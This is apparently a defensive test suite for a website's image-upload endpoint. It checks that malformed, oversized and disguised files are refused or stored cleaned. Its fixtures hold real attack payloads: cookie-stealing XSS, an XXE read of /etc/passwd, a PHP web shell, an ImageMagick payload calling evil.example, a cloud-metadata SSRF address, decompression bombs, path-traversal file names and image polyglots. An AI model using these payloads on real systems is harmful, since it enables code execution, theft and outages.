import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { IMAGE_BYTES } from '../../contract/http/site/inputs/uploads.ts';
import { siteUpload } from '../../contract/http/site/uploads.ts';
import { randomFrom } from '../../house/play/bots/roster.ts';
import { callNamed } from './registry.ts';
import { type Answered, requestOf } from './send.ts';
import { each } from './trial.ts';
import { World } from './world.ts';

let world: World;
beforeAll(async () => {
  world = await World.open();
});
afterAll(() => world.close());

const BOUNDARY = 'kilat-abuse';
const SCRIPT = '<script>alert(document.cookie)</script>';

interface Part {
  name: string;
  file?: string;
  type?: string;
  content: string | Buffer;
}

const draw = (width = 24, height = 18) =>
  sharp({ create: { width, height, channels: 3, background: '#27c' } });
const png = await draw().png().toBuffer();
const jpeg = await draw().jpeg().toBuffer();
const webp = await draw().webp().toBuffer();

/** A form as bytes, which allows any headers. */
function formOf(parts: readonly Part[]): Buffer {
  return Buffer.concat([
    ...parts.flatMap(({ name, file, type, content }) => [
      Buffer.from(
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"${file === undefined ? '' : `; filename="${file}"`}\r\n${
          type === undefined ? '' : `Content-Type: ${type}\r\n`
        }\r\n`,
      ),
      Buffer.from(content),
      Buffer.from('\r\n'),
    ]),
    Buffer.from(`--${BOUNDARY}--\r\n`),
  ]);
}

async function upload(
  body: Buffer,
  type = `multipart/form-data; boundary=${BOUNDARY}`,
): Promise<Answered & { by: string }> {
  const { token } = await world.mallory();
  const headers = { main_token: token, 'content-type': type };
  return { by: token, ...(await world.line.send({ method: 'POST', path: siteUpload.path, headers, body })) };
}

const image = (content: string | Buffer, file = 'photo.png', type = 'image/png'): Part => ({
  name: 'images',
  file,
  type,
  content,
});
const purpose = (text = 'voucher'): Part => ({ name: 'purpose', content: text });

function chunk(type: string, data: Buffer): Buffer {
  const [length, body] = [Buffer.alloc(4), Buffer.concat([Buffer.from(type, 'latin1'), data])];
  length.writeUInt32BE(data.length);
  let crc = 0xffffffff;
  for (const byte of body) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  const end = Buffer.alloc(4);
  end.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return Buffer.concat([length, body, end]);
}

/** A PNG that declares a size, and has `bytes` of compressed zeros as its pixels. */
function bomb(width: number, height: number, bytes = 100_000): Buffer {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0]);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return Buffer.concat([
    png.subarray(0, 8),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(bytes))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A PNG with a text chunk that decompresses to 200 MB. */
const textBomb = () =>
  Buffer.concat([
    png.subarray(0, 33),
    chunk(
      'zTXt',
      Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(20_000_000))]),
    ),
    png.subarray(33),
  ]);

const FAKES: [string, string | Buffer][] = [
  ['a script', SCRIPT],
  ['a page', `<!doctype html><html><body>${SCRIPT}</body></html>`],
  ['an SVG', `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"/>`],
  [
    'an SVG with a declaration',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
  ],
  ['an SVG with entities', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'],
  ['a packed SVG', gzipSync('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')],
  ['PHP', '<?php system($_GET["c"]); ?>'],
  ['a shell script', '#!/bin/sh\nid\n'],
  ['a program', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
  ['a Windows program', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')],
  ['a PDF', '%PDF-1.7\n1 0 obj\n<</OpenAction <</S /JavaScript>>>>'],
  ['a ZIP', Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1')],
  ['gzip of much', gzipSync(Buffer.alloc(5_000_000))],
  ['a GIF', Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')],
  ['a GIF that is a script', `GIF89a/*${SCRIPT}*/=1;`],
  ['a BMP', Buffer.from('BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 'latin1')],
  ['a TIFF', Buffer.from('II*\0\x08\0\0\0', 'latin1')],
  ['an icon', Buffer.from('\0\0\x01\0\x01\0', 'latin1')],
  ['a HEIC', Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1')],
  ['an AVIF', Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1', 'latin1')],
  ['a JPEG XL', Buffer.from('\xff\x0a', 'latin1')],
  [
    'an MVG of ImageMagick',
    "push graphic-context\nfill 'url(https://evil.example/|id)'\npop graphic-context",
  ],
  ['PostScript', '%!PS\n(/etc/passwd) (r) file'],
  ['nothing', ''],
  ['a nought', Buffer.alloc(1)],
  ['noughts', Buffer.alloc(10_000)],
  ['a path', '/etc/passwd'],
  ['an address', 'http://169.254.169.254/latest/meta-data/'],
  ['a PNG of its first bytes', png.subarray(0, 8)],
  ["a script behind a PNG's first bytes", Buffer.concat([png.subarray(0, 8), Buffer.from(SCRIPT)])],
  ["a script behind a JPEG's first bytes", Buffer.concat([jpeg.subarray(0, 4), Buffer.from(SCRIPT)])],
  ["a script behind a WebP's first bytes", Buffer.concat([webp.subarray(0, 12), Buffer.from(SCRIPT)])],
  ["a JPEG behind a PNG's first bytes", Buffer.concat([png.subarray(0, 8), jpeg])],
  ['a blank before a PNG', Buffer.concat([Buffer.from(' '), png])],
  ['a mark before a PNG', Buffer.concat([Buffer.from('\ufeff'), png])],
  ['a PNG of 65,535 by 65,535', bomb(65_535, 65_535)],
  ['a PNG of 30,000 by 30,000', bomb(30_000, 30_000, 4_000_000)],
  ['a PNG of 2 billion by 1', bomb(2_147_483_647, 1)],
  ['a PNG of nothing by nothing', bomb(0, 0)],
  ['a PNG of 1 by nothing', bomb(1, 0)],
  ['a PNG with less than it says', bomb(500, 500, 100)],
  ['too many bytes', Buffer.concat([png, Buffer.alloc(IMAGE_BYTES)])],
];

describe('an invalid picture', () => {
  it('is refused, whatever its name and content type', async () => {
    const names: [string, string][] = [
      ['photo.png', 'image/png'],
      ['photo.jpg', 'image/jpeg'],
      ['photo.svg', 'image/svg+xml'],
      ['photo.html', 'text/html'],
    ];
    const cases = FAKES.flatMap(([what, content]) =>
      names
        .slice(0, Buffer.byteLength(content) > 50_000 ? 1 : 4)
        .map(([file, type]) => ({ what, content, file, type })),
    );
    await each(
      cases,
      async ({ what, content, file, type }) => {
        for (const wanted of ['voucher', 'avatar'])
          world.trial.judge(
            `${what} named ${file}`,
            await upload(formOf([purpose(wanted), image(content, file, type)])),
            'refused',
          );
      },
      4,
    );
    world.trial.settle();
  });

  it('is refused when truncated, and harmless when a bit is flipped', async () => {
    const random = randomFrom('bits');
    const wholes = [png, jpeg, webp];
    const cut = wholes.flatMap((whole) =>
      [0.1, 0.3, 0.5, 0.7].map((part) => whole.subarray(0, whole.length * part)),
    );
    await each(cut, async (content) =>
      world.trial.judge(
        `the first ${content.length} bytes`,
        await upload(formOf([purpose(), image(content)])),
        'refused',
      ),
    );
    const altered = wholes.flatMap((whole) =>
      Array.from({ length: 40 }, () => {
        const copy = Buffer.from(whole);
        const at = Math.floor(random() * copy.length);
        copy[at] = (copy[at] ?? 0) ^ (1 << Math.floor(random() * 8));
        return copy;
      }),
    );
    await each(altered, async (content) =>
      expectStoredClean('a picture with another bit', await upload(formOf([purpose(), image(content)]))),
    );
    world.trial.settle();
  });
});

/** Checks that an accepted upload is a WebP encoded by the house, without any data of the original. */
async function expectStoredClean(what: string, { by, ...answer }: Answered & { by: string }): Promise<void> {
  world.trial.judge(what, answer, 'any');
  if (answer.status !== 200) return;
  const { images } = JSON.parse(answer.text) as { images: { name: string }[] };
  for (const { name } of images) {
    const stored = await world.line.send(requestOf(callNamed('siteUploaded'), { name }, by));
    const left = ['script', 'PK\x03\x04', '<?php', 'EXIF', 'XMP '].find((text) => stored.text.includes(text));
    const clean = /^RIFF[\s\S]{4}WEBP/.test(stored.text) && left === undefined;
    world.trial.hold(`${what} is kept clean`, clean && stored.headers['content-type'] === 'image/webp');
    world.trial.hold(
      `${what} is sniffed as nothing else`,
      stored.headers['x-content-type-options'] === 'nosniff',
    );
  }
}

it('a picture with something hidden in it or after it loses that', async () => {
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, SCRIPT.length + 2]), Buffer.from(SCRIPT)]);
  const polyglots: [string, Buffer][] = [
    ['a script behind a PNG', Buffer.concat([png, Buffer.from(SCRIPT)])],
    ['a ZIP behind a PNG', Buffer.concat([png, Buffer.from('PK\x03\x04 x PK\x05\x06', 'latin1')])],
    ['PHP behind a JPEG', Buffer.concat([jpeg, Buffer.from('<?php system("id"); ?>')])],
    ["a script in a JPEG's comment", Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])],
    [
      "a script in a PNG's text",
      Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.from(`x\0${SCRIPT}`)), png.subarray(33)]),
    ],
    ['a page behind a WebP', Buffer.concat([webp, Buffer.from(`<html>${SCRIPT}</html>`)])],
    ['a text that unpacks to much', textBomb()],
  ];
  for (const [what, content] of polyglots)
    await expectStoredClean(what, await upload(formOf([purpose(), image(content)])));
  world.trial.settle();
});

describe('a form', () => {
  it('with names that point elsewhere is stored under a name of the house', async () => {
    const files = [
      '../../../../tmp/kilat-abuse.png',
      '..\\\\..\\\\x.png',
      '/etc/passwd',
      'x.png%00.html',
      'C:\\\\x.png',
    ];
    const odd = [
      '',
      '.',
      '..',
      'con',
      'a'.repeat(5_000),
      'x.png; filename=y.html',
      "' OR '1'='1.png",
      '__proto__',
      '%2e%2e%2fx',
    ];
    for (const file of [...files, ...odd]) {
      const answer = await upload(formOf([purpose(), image(png, file)]));
      await expectStoredClean(`a file named ${file.slice(0, 30)}`, answer);
      const named = answer.status !== 200 || /^[\w-]{22}$/.test(JSON.parse(answer.text).images[0].name);
      world.trial.hold('its name is of the house', named, answer.text);
    }
    world.trial.settle();
  });

  it('is refused with too many, too few or wrong parts, or if malformed', async () => {
    const good = [purpose(), image(png)];
    const type = (text: string) => `multipart/form-data${text}`;
    const forms: [string, Buffer, string?][] = [
      ['four pictures', formOf([purpose(), ...Array(4).fill(image(png))])],
      ['forty pictures', formOf([purpose(), ...Array(40).fill(image(png))])],
      ['no picture', formOf([purpose()])],
      ['no purpose', formOf([image(png)])],
      ['two purposes', formOf([purpose(), purpose('avatar'), image(png)])],
      ...['', 'other', 'AVATAR', 'admin', '__proto__', 'avatar,voucher', ' avatar'].map(
        (text): [string, Buffer] => [`the purpose ${text}`, formOf([purpose(text), image(png)])],
      ),
      ['a purpose that is a file', formOf([{ name: 'purpose', file: 'x', content: 'voucher' }, image(png)])],
      ['a picture that is a text', formOf([purpose(), { name: 'images', content: png.toString('base64') }])],
      ['an address of a picture', formOf([purpose(), { name: 'images', content: 'http://localhost/x.png' }])],
      ['a picture of another name', formOf([purpose(), { ...image(png), name: 'image' }])],
      ['a picture in brackets', formOf([purpose(), { ...image(png), name: 'images[]' }])],
      [
        'a proto',
        formOf([purpose(), { name: '__proto__', content: 'x' }, { ...image(png), name: '__proto__' }]),
      ],
      ['a thousand fields', formOf([...good, ...Array(1_000).fill({ name: 'x', content: 'y' })])],
      ['17 MB', formOf([purpose(), image(Buffer.alloc(17 * 1024 * 1024))])],
      ['no boundary', formOf(good), type('')],
      ['another boundary', formOf(good), type('; boundary=other')],
      ['an empty boundary', formOf(good), type('; boundary=')],
      ['a boundary of 1,000 signs', formOf(good), type(`; boundary=${'x'.repeat(1_000)}`)],
      ['no end', formOf(good).subarray(0, -BOUNDARY.length - 8)],
      ['nothing', Buffer.alloc(0)],
      ['a JSON body', Buffer.from('{"purpose":"voucher","images":["x"]}'), 'application/json'],
      ['a bare picture', png, 'image/png'],
      ['octets', png, 'application/octet-stream'],
    ];
    await each(forms, async ([what, body, kind]) =>
      world.trial.judge(`a form with ${what}`, await upload(body, kind ?? undefined), 'refused'),
    );
    world.trial.settle();
  });

  it('is not read before its sender is authenticated', async () => {
    const body = formOf([purpose(), image(png)]);
    for (const token of ['', 'hello', `k1-${world.victim.userId}-${'0'.repeat(64)}`])
      for (let i = 0; i < 5; i++)
        world.trial.judge(
          'an upload by nobody',
          await world.line.send({
            method: 'POST',
            path: siteUpload.path,
            headers: { main_token: token, 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
            body,
          }),
          'refused',
        );
    world.trial.settle();
  });

  it('allows twenty pictures an hour at most, sequentially and concurrently', async () => {
    const { token, userId } = await world.mallory();
    const headers = { main_token: token, 'content-type': `multipart/form-data; boundary=${BOUNDARY}` };
    const body = formOf([purpose(), image(png), image(png), image(png)]);
    const send = () => world.line.send({ method: 'POST', path: siteUpload.path, headers, body });
    for (let i = 0; i < 6; i++) world.trial.judge('three more pictures', await send(), 'any');
    for (const answer of await Promise.all(Array.from({ length: 12 }, send)))
      world.trial.judge('three more pictures at once', answer, 'any');
    const { rows } = await world.house.db.pool.query(
      'SELECT count(*)::int AS kept FROM uploads WHERE user_id = $1',
      [userId],
    );
    world.trial.hold('twenty at most', rows[0].kept <= 20, rows[0].kept);
    world.trial.settle();
  });
});
